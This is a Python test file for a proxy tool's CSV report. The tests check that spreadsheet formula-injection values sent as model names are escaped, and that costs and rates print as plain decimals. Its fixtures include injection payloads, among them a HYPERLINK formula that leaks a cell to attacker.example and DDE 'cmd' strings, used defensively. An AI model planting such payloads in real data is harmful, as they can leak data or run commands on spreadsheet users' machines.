"""`promptcache report --format csv` never writes a cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import httpx
from click.testing import CliRunner
from proxy_support import RunningProxy
from servers import ServerThread

from promptcache.cli import cli
from promptcache.proxy.config import UpstreamConfig
from promptcache.proxy.record import COLUMN_NAMES
from promptcache.proxy.report.render import CSV_COLUMNS
from promptcache.proxy.store import open_log

T0 = 1_764_493_200.0  # 2025-11-30 09:00 UTC

#: Model names a client can send; each starts with a character OWASP lists as a formula trigger.
HOSTILE_MODELS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"report")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
#: Not a trigger first, but a bare CR would start a new row with ``=1+1`` unless quoted.
SPLIT_MODEL = "gpt-4o\r=1+1"


def test_text_cells_are_neutralised_and_numbers_are_not(
    start_proxy: Callable[..., RunningProxy], mock_server: ServerThread
) -> None:
    openai = UpstreamConfig(name="openai", url=mock_server.url, vendor="openai", price_as="gpt-5")
    proxy = start_proxy(upstreams={"openai": openai})
    for model in (*HOSTILE_MODELS, SPLIT_MODEL):
        reply = httpx.post(
            proxy.url + "/v1/chat/completions", json={"model": model, "messages": []}
        )
        assert reply.status_code == 200
    # a 1h cache write and no read: this group's net savings are negative
    reply = httpx.post(
        proxy.url + "/v1/messages",
        json={"model": "claude-sonnet-4-5", "max_tokens": 16, "messages": []},
        headers={"x-mock-case": "cache_write_1h"},
    )
    assert reply.status_code == 200
    proxy.rows(len(HOSTILE_MODELS) + 2)

    result = CliRunner().invoke(
        cli, ["report", "--db", str(proxy.db_path), "--format", "csv", "--group-by", "model"]
    )
    assert result.exit_code == 0, result.output
    rows = {row["group"]: row for row in csv.DictReader(io.StringIO(result.output, newline=""))}
    assert set(rows) == {"'" + m for m in HOSTILE_MODELS} | {
        SPLIT_MODEL,
        "claude-sonnet-4-5",
        "(total)",
    }
    for model in HOSTILE_MODELS:
        assert rows["'" + model]["priced_as"] == f"'{model}=gpt-5"
    assert rows["(total)"]["priced_as"].startswith("'")  # "model=rates; ..." of them all
    savings = rows["claude-sonnet-4-5"]["net_savings_usd"]
    assert savings.startswith("-") and float(savings) < 0  # a negative number stays a number
    for row in rows.values():
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r"))
            assert not cell.startswith("-") or float(cell) < 0


def test_money_is_plain_decimal_like_the_json(tmp_path: Path) -> None:
    """A small cost beside a larger one: 4.5e-05 in one row and 0.000438 in the next made one
    column of two notations; every money cell is the JSON's decimal string (6 places)."""
    rows = []
    for i, (key, cost) in enumerate((("k-small", "0.000045"), ("k-large", "0.000438"))):
        values = dict.fromkeys(COLUMN_NAMES)
        values.update(
            id=f"r{i}", started_at=T0 + i, stream=0, status=200, vendor="anthropic",
            api="anthropic", model="claude-haiku-4-5", key_fingerprint=key,
            uncached_input_tokens=45, cache_read_tokens=0, cache_write_5m_tokens=0,
            cache_write_1h_tokens=0, cache_write_unknown_tokens=0, output_tokens=0,
            reasoning_tokens=0, total_input_tokens=45, cost_usd=cost,
            cost_without_cache_usd=cost,
        )  # fmt: skip
        rows.append(values)
    db = open_log(tmp_path / "log.db")
    with db.conn:
        db.table("requests").insert_all(rows)
    db.close()
    window = ["--since", str(T0), "--until", str(T0 + 3600)]
    base = ["report", "--db", str(tmp_path / "log.db"), *window, "--group-by", "key"]
    result = CliRunner().invoke(cli, [*base, "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows_out = {r["group"]: r for r in csv.DictReader(io.StringIO(result.output, newline=""))}
    assert rows_out["k-small"]["cost_usd"] == "0.000045"
    assert rows_out["k-large"]["cost_usd"] == "0.000438"
    as_json = CliRunner().invoke(cli, [*base, "--format", "json"])
    data = json.loads(as_json.output)
    by_key = {g["group"]: g for g in data["groups"]}
    money = [c for c in CSV_COLUMNS if c.endswith("_usd")]
    for group, row in rows_out.items():
        summary = data["total"] if group == "(total)" else by_key[group]
        for column in money:
            assert row[column] == summary[column], (group, column)
            assert "e" not in row[column].lower()


def test_a_tiny_rate_is_plain_decimal_too(tmp_path: Path) -> None:
    """A hit rate under 1e-4 (45 tokens read of a million) is written 0.000045, not 4.5e-05;
    a rate of 0 stays 0.0 and the window's bounds stay unix seconds as they were."""
    values = dict.fromkeys(COLUMN_NAMES)
    values.update(
        id="r0", started_at=T0, stream=0, status=200, vendor="anthropic", api="anthropic",
        model="claude-haiku-4-5", uncached_input_tokens=999_955, cache_read_tokens=45,
        cache_write_5m_tokens=0, cache_write_1h_tokens=0, cache_write_unknown_tokens=0,
        output_tokens=0, reasoning_tokens=0, total_input_tokens=1_000_000,
    )  # fmt: skip
    db = open_log(tmp_path / "log.db")
    with db.conn:
        db.table("requests").insert_all([values])
    db.close()
    window = ["--since", str(T0), "--until", str(T0 + 3600)]
    result = CliRunner().invoke(
        cli, ["report", "--db", str(tmp_path / "log.db"), *window, "--format", "csv"]
    )
    assert result.exit_code == 0, result.output
    (total,) = csv.DictReader(io.StringIO(result.output, newline=""))
    assert total["token_hit_rate"] == "0.000045"
    assert total["since"] == "1764493200.0"
